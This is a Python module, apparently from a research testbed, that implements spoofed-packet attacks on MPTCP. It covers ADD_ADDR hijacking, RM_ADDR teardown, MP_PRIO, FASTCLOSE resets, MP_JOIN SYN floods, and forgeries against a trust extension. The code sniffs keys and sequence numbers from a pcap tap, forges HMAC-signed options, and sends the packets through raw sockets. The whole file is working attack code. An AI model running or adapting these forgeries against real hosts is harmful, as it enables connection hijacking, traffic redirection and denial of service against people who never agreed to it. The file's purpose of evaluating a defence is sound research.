"""Attacks on MPTCP's control plane (RFC 6181, RFC 7430), run in an attacker host.

    python -m experiments.attacks ATTACK --strength eavesdrop|blind --victim ADDR ...
        --peer ADDR ... --attacker ADDR [--tap PCAP] [--tuple SRC:SPORT-DST:DPORT ...]
        [--seed N] [--wait]

ATTACK is one of ``add_addr`` (hijack: make the victim open a subflow to the attacker),
``rm_addr`` (tear legitimate subflows down), ``mp_prio`` (set a subflow to backup),
``fastclose`` (reset the connection) and ``join_flood`` (MP_JOIN SYNs with the
connection's token at the peer's listener). Every forged segment carries the peer's (or,
for the flood, the victim's) address as its source: spoofing is the attack.

Two strengths:
- ``eavesdrop``: the attacker reads a tap on the path it sits on (``--tap``, a pcap that
  grows while the connection runs). From it: sequence and acknowledgment numbers and
  timestamps of each subflow it sees, and the MP_CAPABLE keys if the connection's first
  subflow crossed that path. Key-less attacks (RM_ADDR, MP_PRIO) need only the former.
  It strikes once the tap has been quiet for QUIET seconds (waiting at most PATIENCE),
  so its copy of the peer's last segment is current.
- ``blind``: off-path. It is given the four-tuples (``--tuple``; the most generous blind
  model) and guesses everything else: sequence numbers, timestamps, keys, HMACs, tokens.

With ``--wait`` the program loads scapy, prints ``ready`` and sends when a line arrives
on stdin (it may list more four-tuples), so the runner can time the attack. It prints one JSON line: what it sent and
what it knew. Forged packets carry ``TAG`` (IPv4: the IP ID; IPv6: the flow label) so
captures can tell them apart. Both families: a forgery has its eavesdropped segment's.
The packet builders are plain functions of what the attacker knows; tests run them
without a network.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import socket
import sys
import time
from dataclasses import dataclass, field

from hosts.options import (
    ADDR_TRUST_DEFAULT,
    KIND_MPTCP,
    AddAddr,
    AddrTrust,
    MpCapable,
    MpFastclose,
    MpJoin,
    MpPrio,
    OptionError,
    RemoveAddr,
    add_addr_hmac,
    encode,
    mptcp_options,
    signed_addr_trust,
    tcp_options,
    token_of,
)
from hosts.segment import parse

ATTACKS = ("add_addr", "rm_addr", "mp_prio", "fastclose", "join_flood")
# Attacks on the extension itself, made by the adaptive forger (experiments/forger.py)
# only, each followed by an MP_PRIO on the eavesdropped subflows (which the victim takes
# only if the attack lifted enforcement there):
# - ``claim``: an ADDR_TRUST saying the eavesdropped address is protected, signed with
#   the sniffed keys;
# - ``replay``: every control option the eavesdropped host sent on the tapped subflows
#   (ADDR_TRUST and its withdrawals and echoes, T-ADD_ADDR, ADD_ADDR, RM_ADDR, MP_PRIO),
#   sent again with the subflow's current sequence numbers;
# - ``own_connection``: from the attacker's own MPTCP connection to the victim (whose keys
#   it knows, being its client): T-ADD_ADDRs naming the eavesdropped host's addresses and
#   withdrawals of its protected one (own_connection_claims).
EXTENSION_ATTACKS = ("claim", "replay", "own_connection")
ALL_ATTACKS = ATTACKS + EXTENSION_ATTACKS
STRENGTHS = ("eavesdrop", "blind")


def attacks_of(strength: str) -> tuple[str, ...]:
    """The attacks an attacker of ``strength`` makes: only the adaptive forger attacks
    the extension itself (a claim is a sequence of forgeries)."""
    return ALL_ATTACKS if strength == "adaptive" else ATTACKS


CLAIM_COUNTER = 2**31  # above any counter a real sender reaches in a trial: it is fresh
CLAIM_LIFETIME = 30  # s: what the agents claim for their own addresses
TAG = 0x7A7A  # IP ID (IPv4) or flow label (IPv6) of every forged packet
TS_AHEAD = 10  # ms ahead of the peer's extrapolated clock: passes PAWS, stays plausible
ATTACKER_ADDR_ID = 42  # the address ID a forged ADD_ADDR announces
CLAIM_ADDR_ID = 2  # the address ID a forged claim gives the eavesdropped address
PROTECTED_ADDR_ID = 1  # the ID the eavesdropped host's agent gives its protected address
# What a replay resends: every signal a host acts on (RFC 8684 subtypes ADD_ADDR, RM_ADDR,
# MP_PRIO; the extension's ADDR_TRUST is added by its configured subtype).
REPLAYED_SUBTYPES = (0x3, 0x4, 0x5)
MAX_RECORDED = 32  # distinct options a replaying attacker keeps (the first ones seen)
REMOVED_IDS = (0, 1, 2, 3)  # every address ID the testbed's hosts use
BLIND_GUESSES = 20  # forged segments per four-tuple for a blind attacker
QUIET, PATIENCE = 0.15, 1.0  # seconds: how long the eavesdropper waits for a lull
FLOOD_SYNS = 20


@dataclass
class Knowledge:
    """What the attacker knows of one connection between ``victim`` and ``peer``."""

    # (peer addr, peer port, victim addr, victim port) -> last segment the peer sent there
    last_from_peer: dict = field(default_factory=dict)
    client_key: int | None = None  # MP_CAPABLE keys (client = the connection's initiator)
    server_key: int | None = None
    server_port: int | None = None
    victim_is_client: bool = True
    # (peer -> victim four-tuple, option bytes): control options the peer sent the victim
    recorded: list = field(default_factory=list)

    @property
    def victim_key(self) -> int | None:
        return self.client_key if self.victim_is_client else self.server_key

    @property
    def peer_key(self) -> int | None:
        return self.server_key if self.victim_is_client else self.client_key

    def summary(self) -> dict:
        return {
            "subflows_seen": len(self.last_from_peer),
            "keys_known": self.client_key is not None,
            "recorded": len(self.recorded),
        }


class Learner:
    """What an eavesdropper learns, fed frame by frame: a tap that grows is read once.
    Headers are parsed without scapy (a tap holds tens of thousands of segments); only
    the segments kept become scapy packets."""

    def __init__(
        self, victim: set[str], peer: set[str], addr_trust_subtype: int = ADDR_TRUST_DEFAULT
    ):
        self.victim, self.peer = victim, peer
        self.keys: tuple | None = None  # (client key, server key, server port, victim is client)
        self.last: dict = {}  # peer -> victim four-tuple -> (frame, capture time)
        self.replayable = {*REPLAYED_SUBTYPES, addr_trust_subtype}
        self.recorded: dict[bytes, tuple] = {}  # option bytes -> four-tuple it came on

    def feed(self, frames) -> Learner:
        """``frames``: (Ethernet frame bytes, capture time), in capture order."""
        for frame, when in frames:
            if len(frame) < 34 or frame[12:14] not in (b"\x08\x00", b"\x86\xdd"):
                continue  # IPv4 and IPv6
            packet = frame[14:]
            try:
                seg = parse(packet)
            except OptionError:
                continue
            if is_forged(packet):
                continue  # our own forgeries
            if seg.flags & 0x04:  # RST
                continue
            if seg.payload_len == 0 and seg.flags & 0x12 == 0x10:
                for opt in _mptcp_options(seg.options):
                    # The client's third ACK carries both keys: sender (client) first.
                    if isinstance(opt, MpCapable) and opt.receiver_key is not None:
                        self.keys = (
                            opt.sender_key,
                            opt.receiver_key,
                            seg.dport,
                            seg.src in self.victim,
                        )
            if seg.src in self.peer and seg.dst in self.victim and not seg.flags & 0x02:
                self.last[seg.four_tuple] = (frame, when)
                for option in control_options(seg.options, self.replayable):
                    if len(self.recorded) < MAX_RECORDED:
                        self.recorded.setdefault(option, seg.four_tuple)
        return self

    def knowledge(self) -> Knowledge:
        from scapy.layers.inet import IP  # noqa: F401  (binds IP/TCP under Ether)
        from scapy.layers.inet6 import IPv6  # noqa: F401  (and IPv6)
        from scapy.layers.l2 import Ether

        k = Knowledge()
        if self.keys:
            k.client_key, k.server_key, k.server_port, k.victim_is_client = self.keys
        for four_tuple, (frame, when) in self.last.items():
            p = Ether(frame)
            p.time = when
            k.last_from_peer[four_tuple] = p
        k.recorded = [(four, option) for option, four in self.recorded.items()]
        return k


def learn(frames, victim: set[str], peer: set[str]) -> Knowledge:
    """What an eavesdropper learns from ``frames`` (a whole tap)."""
    return Learner(victim, peer).feed(frames).knowledge()


class TapFollower:
    """A pcap that tcpdump is still writing, read on from where the last call stopped:
    each call returns the frames written since (a record still half written waits)."""

    def __init__(self, path: str):
        self.path, self.file, self.reader = path, None, None

    def __call__(self) -> list:
        from scapy.utils import RawPcapReader

        if self.reader is None:
            try:
                if os.path.getsize(self.path) < 24:
                    return []  # not even the file header yet
            except OSError:
                return []
            self.file = open(self.path, "rb")  # noqa: SIM115  (kept open between calls)
            self.reader = RawPcapReader(self.file)
        out = []
        while True:
            at = self.file.tell()
            try:
                # scapy's own advice for reading one record at a time
                data, meta = self.reader._read_packet()
            except EOFError:
                self.file.seek(at)
                return out
            if len(data) < meta.caplen:
                self.file.seek(at)
                return out
            out.append((data, meta.sec + meta.usec / 1e6))

    def close(self) -> None:
        if self.file is not None:
            self.file.close()


def eavesdrop(
    read,
    victim: set[str],
    peer: set[str],
    clock=time.time,
    sleep=time.sleep,
    patience: float = PATIENCE,
    learner: Learner | None = None,
):
    """Learn from the tap (``read()`` gives its frames) once the connection has been
    quiet for QUIET seconds, waiting at most ``patience``: a forgery must carry the
    peer's latest sequence and acknowledgment numbers, or TCP drops it as old. With no
    patience it learns from what the tap holds now. With a ``learner``, ``read()`` gives
    only the frames that are new since its last call (a TapFollower)."""
    deadline = clock() + patience
    while True:
        if learner is None:
            k = learn(read(), victim, peer)
        else:
            k = learner.feed(read()).knowledge()
        newest = max((float(p.time) for p in k.last_from_peer.values()), default=0.0)
        if clock() - newest >= QUIET or clock() >= deadline:
            return k
        sleep(QUIET / 2)


def read_tap(path: str):
    """(frame, time) of every packet of a pcap, without dissecting them."""
    from scapy.utils import RawPcapReader

    with RawPcapReader(path) as reader:
        for frame, meta in reader:
            yield frame, meta.sec + meta.usec / 1e6


def _mptcp_options(area: bytes) -> list:
    try:
        return mptcp_options(area)
    except OptionError:
        return []


def control_options(area: bytes, subtypes: set[int]) -> list[bytes]:
    """The raw MPTCP options of ``subtypes`` in a TCP option area, exactly as sent (a
    replay resends the bytes, HMAC and counter included); none from an area that does
    not parse."""
    try:
        options = tcp_options(area)
    except OptionError:
        return []
    return [o for kind, o in options if kind == KIND_MPTCP and len(o) > 2 and o[2] >> 4 in subtypes]


def is_forged(packet: bytes) -> bool:
    """Whether an IP packet carries our TAG (IPv4's IP ID, IPv6's flow label)."""
    if packet[0] >> 4 == 6:
        return int.from_bytes(packet[1:4], "big") & 0xFFFFF == TAG
    return packet[4:6] == TAG.to_bytes(2, "big")


def ip_of(pkt):
    """The IP layer (IPv4 or IPv6) of a scapy packet."""
    from scapy.layers.inet import IP
    from scapy.layers.inet6 import IPv6

    return pkt[IP] if IP in pkt else pkt[IPv6]


def forged_ip(src: str, dst: str):
    """The IP header of a forgery from ``src`` to ``dst``, tagged."""
    from scapy.layers.inet import IP
    from scapy.layers.inet6 import IPv6

    return IPv6(src=src, dst=dst, fl=TAG) if ":" in src else IP(src=src, dst=dst, id=TAG)


def _timestamps(tcp) -> tuple[int, int]:
    for name, value in tcp.options:
        if name == "Timestamp":
            return value
    return (0, 0)


def segment_after(seen, option: bytes, now: float | None = None):
    """A pure ACK with one MPTCP ``option`` that ``seen``'s sender could send next.

    Linux timestamps tick in milliseconds, so the sender's clock is extrapolated from
    when ``seen`` was captured (``seen.time``) to ``now``: PAWS drops anything older."""
    from scapy.layers.inet import TCP

    ip, tcp = ip_of(seen), seen[TCP]
    tsval, tsecr = _timestamps(tcp)
    if now is not None:
        tsval += int((now - float(seen.time)) * 1000)
    options = [
        ("NOP", None),
        ("NOP", None),
        ("Timestamp", (tsval + TS_AHEAD, tsecr)),
        (option[0], option[2:]),
    ]
    # The tap may have cut the payload: its length is in the IP header (Linux sends TCP
    # right after IPv6's fixed header).
    header = ip.ihl * 4 if ip.version == 4 else 0
    payload = (ip.len if ip.version == 4 else ip.plen) - header - tcp.dataofs * 4
    forged = TCP(
        sport=tcp.sport,
        dport=tcp.dport,
        seq=tcp.seq + payload,
        ack=tcp.ack,
        flags="A",
        window=tcp.window,
        options=options,
    )
    return forged_ip(ip.src, ip.dst) / forged


def guessed_segment(four_tuple, option: bytes, rng: random.Random):
    """A blind guess: the right four-tuple, everything else random."""
    from scapy.layers.inet import TCP

    src, sport, dst, dport = four_tuple
    options = [
        ("NOP", None),
        ("NOP", None),
        ("Timestamp", (rng.getrandbits(32), rng.getrandbits(32))),
        (option[0], option[2:]),
    ]
    return forged_ip(src, dst) / TCP(
        sport=sport,
        dport=dport,
        seq=rng.getrandbits(32),
        ack=rng.getrandbits(32),
        flags="A",
        window=rng.randrange(1, 65536),
        options=options,
    )


def option_for(
    attack: str,
    k: Knowledge,
    attacker: str,
    rng: random.Random,
    removed_ids: tuple[int, ...] = REMOVED_IDS,
) -> bytes:
    """The forged MPTCP option of an option attack, as well as ``k`` allows."""
    if attack == "add_addr":
        if k.peer_key is not None and k.victim_key is not None:
            mac = add_addr_hmac(k.peer_key, k.victim_key, ATTACKER_ADDR_ID, attacker)
        else:
            mac = rng.randbytes(8)
        return encode(AddAddr(ATTACKER_ADDR_ID, attacker, hmac=mac))
    if attack == "rm_addr":
        return encode(RemoveAddr(removed_ids))
    if attack == "mp_prio":
        return encode(MpPrio(backup=True))
    if attack == "fastclose":
        key = k.victim_key if k.victim_key is not None else rng.getrandbits(64)
        return encode(MpFastclose(key))
    raise ValueError(f"{attack} is not an option attack")


def claim_for(seen, k: Knowledge, counter: int, subtype: int = ADDR_TRUST_DEFAULT) -> bytes | None:
    """The ADDR_TRUST the peer's agent would send to say that the source of ``seen`` (a
    segment from the peer on an eavesdropped subflow) is protected, signed with the keys
    read from the first subflow; None without them. ``counter`` must beat the last one
    the victim accepted on the connection."""
    if k.peer_key is None or k.victim_key is None:
        return None
    src, dst = ip_of(seen).src, ip_of(seen).dst
    unsigned = AddrTrust(CLAIM_ADDR_ID, counter, CLAIM_LIFETIME, b"")
    opt = signed_addr_trust(k.peer_key, k.victim_key, unsigned, src, src, dst, subtype)
    return encode(opt, subtype)


def own_connection_claims(
    k: Knowledge,
    own: str,
    victim: str,
    protected: str,
    unprotected: str,
    counter: int,
    subtype: int = ADDR_TRUST_DEFAULT,
) -> list[bytes]:
    """What the attacker says on its own connection to the victim (``own`` -> ``victim``,
    its own keys in ``k``, the attacker being the client), trying to move the victim's
    trust in the eavesdropped host's addresses: T-ADD_ADDRs naming its ``unprotected``
    and its ``protected`` address; an ADDR_TRUST with the protected address's ID
    (PROTECTED_ADDR_ID) for itself (a notification credits the segment's source); then
    withdrawals of that ID signed over the protected address and over its own. Every one
    is well made for this connection, and the last one verifies: only the connection
    they come on is wrong."""
    if k.client_key is None or k.server_key is None:
        return []
    mine, theirs = k.client_key, k.server_key

    def t_add_addr(addr_id: int, address: str) -> bytes:
        mac = add_addr_hmac(mine, theirs, addr_id, address, trust=True)
        return encode(AddAddr(addr_id, address, trust=True, hmac=mac))

    def addr_trust(unsigned: AddrTrust, address: str) -> bytes:
        return encode(
            signed_addr_trust(mine, theirs, unsigned, address, own, victim, subtype), subtype
        )

    withdrawal = lambda n: AddrTrust(PROTECTED_ADDR_ID, counter + n, 0, b"", withdraw=True)  # noqa: E731
    return [
        t_add_addr(CLAIM_ADDR_ID, unprotected),
        t_add_addr(PROTECTED_ADDR_ID, protected),
        addr_trust(AddrTrust(PROTECTED_ADDR_ID, counter, CLAIM_LIFETIME, b""), own),
        addr_trust(withdrawal(1), protected),
        addr_trust(withdrawal(2), own),
    ]


def option_attack(
    attack: str,
    k: Knowledge,
    attacker: str,
    rng: random.Random,
    tuples=(),
    now: float | None = None,
) -> list:
    """Forged segments in the peer's name to the victim: one per subflow the eavesdropper
    saw, or ``BLIND_GUESSES`` per given four-tuple for a blind attacker."""
    if k.last_from_peer:
        return [
            segment_after(seen, option_for(attack, k, attacker, rng), now)
            for seen in k.last_from_peer.values()
        ]
    return [
        guessed_segment(t, option_for(attack, k, attacker, rng), rng)
        for t in tuples
        for _ in range(BLIND_GUESSES)
    ]


def join_flood(
    k: Knowledge, sources: list[str], targets: list[str], port: int, rng: random.Random
) -> list:
    """MP_JOIN SYNs from the ``sources`` (spoofed) to the peer's ``targets``, with the
    token of the peer's key if known, else a guessed one."""
    from scapy.layers.inet import TCP

    token = token_of(k.peer_key) if k.peer_key is not None else rng.getrandbits(32)
    out = []
    for i in range(FLOOD_SYNS):
        join = encode(
            MpJoin(False, addr_id=rng.randrange(1, 8), token=token, nonce=rng.getrandbits(32))
        )
        options = [
            ("MSS", 1460),
            ("SAckOK", b""),
            ("Timestamp", (rng.getrandbits(32), 0)),
            ("WScale", 7),
            (join[0], join[2:]),
        ]
        out.append(
            forged_ip(sources[i % len(sources)], targets[i % len(targets)])
            / TCP(
                sport=rng.randrange(32768, 61000),
                dport=port,
                flags="S",
                seq=rng.getrandbits(32),
                options=options,
            )
        )
    return out


class RawSender:
    """Raw IP sockets (one per family, IPv6's opened at its first use) that send our
    headers as they are; the kernel routes and resolves the next hop (with its own
    retries, where scapy's send() gives up after one ARP request and sends to the
    broadcast address, which the victim's TCP ignores)."""

    def __init__(self):
        self.sockets = {4: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)}

    def send(self, packets) -> None:
        for pkt in packets:
            ip = ip_of(pkt)
            if ip.version not in self.sockets:
                self.sockets[6] = socket.socket(
                    socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW
                )
            self.sockets[ip.version].sendto(bytes(pkt), (ip.dst, 0))


def parse_tuple(text: str) -> tuple[str, int, str, int]:
    """``SRC:SPORT-DST:DPORT`` -> (src, sport, dst, dport)."""
    try:
        a, b = text.split("-")
        (src, sport), (dst, dport) = a.rsplit(":", 1), b.rsplit(":", 1)
        return src, int(sport), dst, int(dport)
    except ValueError:
        raise argparse.ArgumentTypeError(f"{text!r} is not SRC:SPORT-DST:DPORT") from None


def build(args, clock=time.time, sleep=time.sleep) -> tuple[list, Knowledge]:
    """The forgeries of ``args``. The clock is read once the tap has been read (the
    eavesdropper may wait up to PATIENCE for a lull): a ``now`` taken before would
    extrapolate the peer's timestamps backwards, and PAWS would drop every forgery."""
    rng = random.Random(args.seed)
    victim, peer = set(args.victim), set(args.peer)
    k = Knowledge()
    if args.strength == "eavesdrop":
        k = eavesdrop(lambda: read_tap(args.tap), victim, peer, clock=clock, sleep=sleep)
    now = clock()
    if args.attack == "join_flood":
        port = k.server_port or args.port
        seen_victim = sorted({t[2] for t in k.last_from_peer}) or args.victim
        seen_peer = sorted({t[0] for t in k.last_from_peer}) or args.peer
        return join_flood(k, seen_victim, seen_peer, port, rng), k
    return option_attack(args.attack, k, args.attacker, rng, args.tuple, now), k


def add_target_arguments(ap: argparse.ArgumentParser) -> None:
    """Who is attacked, in whose name, from where: the options every attack program
    takes (this one and experiments.forger)."""
    ap.add_argument(
        "--victim", action="append", required=True, help="an address of the attacked host (repeat)"
    )
    ap.add_argument(
        "--peer",
        action="append",
        required=True,
        help="an address of its peer, whose name the forgeries use (repeat)",
    )
    ap.add_argument("--attacker", required=True, help="the attacker's own address")


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(
        prog="python -m experiments.attacks", description=" ".join(__doc__.split("\n\n")[0].split())
    )
    ap.add_argument("attack", choices=ATTACKS)
    ap.add_argument("--strength", choices=STRENGTHS, required=True)
    add_target_arguments(ap)
    ap.add_argument("--tap", help="pcap of the eavesdropped path (eavesdrop)")
    ap.add_argument(
        "--tuple",
        action="append",
        type=parse_tuple,
        default=[],
        help="peer->victim four-tuple SRC:SPORT-DST:DPORT (blind; repeat)",
    )
    ap.add_argument("--port", type=int, default=5201, help="the peer's listening port")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--wait", action="store_true", help="print ready, send on a stdin line")
    args = ap.parse_args(argv)
    if args.strength == "eavesdrop" and not args.tap:
        ap.error("--strength eavesdrop needs --tap")
    from scapy.layers.inet import IP  # noqa: F401  (loaded before the go line, not after)

    try:
        sender = RawSender()
    except OSError as e:  # not root (CAP_NET_RAW)
        print(json.dumps({"error": f"a raw socket for the forgeries: {e}"}), flush=True)
        return 1
    if args.wait:
        print("ready", flush=True)
        line = sys.stdin.readline()
        if not line:
            return 1
        try:  # the go line may name four-tuples (a blind attacker's given knowledge)
            args.tuple += [parse_tuple(t) for t in line.split()]
        except argparse.ArgumentTypeError as e:
            print(json.dumps({"error": str(e)}), flush=True)
            return 1
    if args.strength == "blind" and args.attack != "join_flood" and not args.tuple:
        print(
            json.dumps({"error": "a blind option attack needs at least one four-tuple"}), flush=True
        )
        return 1
    try:
        packets, k = build(args)
    except (OSError, ValueError) as e:  # an unreadable tap, a bad address
        print(json.dumps({"error": str(e)}), flush=True)
        return 1
    try:
        sender.send(packets)
    except OSError as e:
        print(json.dumps({"error": f"sending the forgeries: {e}"}), flush=True)
        return 1
    print(
        json.dumps(
            {"attack": args.attack, "strength": args.strength, "sent": len(packets), **k.summary()}
        ),
        flush=True,
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
